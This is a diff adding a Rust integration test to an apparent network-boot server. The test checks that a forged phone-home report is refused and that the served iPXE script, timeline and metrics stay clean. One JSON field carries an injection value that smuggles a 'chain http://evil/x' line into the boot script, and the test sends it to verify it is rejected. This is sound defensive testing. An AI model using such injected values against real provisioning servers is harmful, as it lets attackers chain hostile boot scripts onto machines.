@@ -219,6 +219,60 @@ fn an_installed_machine_boots_locally_until_reprovisioned_and_its_timeline_shows
 }
 
 #[test]
+fn a_forged_phone_home_is_refused_and_the_next_script_stays_herds_own() {
+    let lab = booted_lab();
+    let script_url = format!("http://10.99.0.2/boot/{NODE1_DASHED}.ipxe");
+    let token = token_of(&curl(&lab, &[&script_url]).1);
+    let url = format!("http://10.99.0.2/phone-home/{NODE1_DASHED}?token={token}");
+    let post = |body: &serde_json::Value, from: Option<&str>| {
+        let body = body.to_string();
+        let mut args = vec!["-X", "POST", "-H", "content-type: application/json", "-d", &body];
+        if let Some(ip) = from {
+            args.extend(["--interface", ip]);
+        }
+        args.push(&url);
+        curl(&lab, &args)
+    };
+    let slots = |release: &str| {
+        serde_json::json!({
+            "disk": "/dev/vda", "booted": "a",
+            "slots": [{"slot": "a", "flags": {"priority": 2, "tries": 0, "successful": true}, "offset": 1048576,
+                       "size": 1 << 30,
+                       "header": {"magic": "herd-slot/1", "name": "herd-os", "release": release, "key": "k",
+                                  "kernel_version": "6.12", "root_hash": "ab".repeat(32), "data_bytes": 0,
+                                  "hash_offset": 0}}],
+        })
+    };
+    // A slot header whose release would end the script's comment line and chain another script: refused, kept
+    // nowhere, and the next script is herd's alone.
+    let hostile = serde_json::json!({"stage": "healthy", "detail": "x", "slots": slots("1\nchain http://evil/x")});
+    let (code, reply) = post(&hostile, None);
+    assert_eq!(
+        (code, reply.trim()),
+        (400, "slots.slots[0].header.release: 1-64 characters of A-Z a-z 0-9 . _ + ~ : -")
+    );
+    let (_, shown) = curl(&lab, &["http://10.99.0.2/api/v1/machines/node1"]);
+    assert!(!shown.contains("evil"), "{shown}");
+    // The right token from another address of the boot network: refused too.
+    lab.client_address("10.99.0.98/24");
+    let honest = serde_json::json!({"stage": "healthy", "detail": "x", "slots": slots("2026.11.0")});
+    assert_eq!(post(&honest, Some("10.99.0.98")).0, 403);
+    assert_eq!(post(&serde_json::json!({"stage": "installed"}), None).0, 200);
+    assert_eq!(post(&honest, None).0, 200);
+    let (_, script) = curl(&lab, &[&script_url]);
+    assert!(!script.contains("evil"), "{script}");
+    assert_eq!(script.lines().filter(|l| l.starts_with("chain ")).count(), 1, "{script}");
+    assert!(script.contains("slot a: herd-os 2026.11.0"), "{script}");
+    let (_, timeline) = curl(&lab, &["http://10.99.0.2/api/v1/machines/node1/timeline"]);
+    assert_eq!(timeline.matches("phone-home-refused").count(), 2, "{timeline}");
+    let (_, metrics) = curl(&lab, &["http://10.99.0.2/metrics"]);
+    for reason in ["invalid-report", "wrong-source"] {
+        let line = format!("herd_http_phone_home_refused_total{{reason=\"{reason}\"}} 1");
+        assert!(metrics.contains(&line), "{line} in {metrics}");
+    }
+}
+
+#[test]
 fn state_and_timeline_survive_a_kill_9() {
     let mut lab = booted_lab();
     let (_, script) = curl(&lab, &[&format!("http://10.99.0.2/boot/{NODE1_DASHED}.ipxe")]);
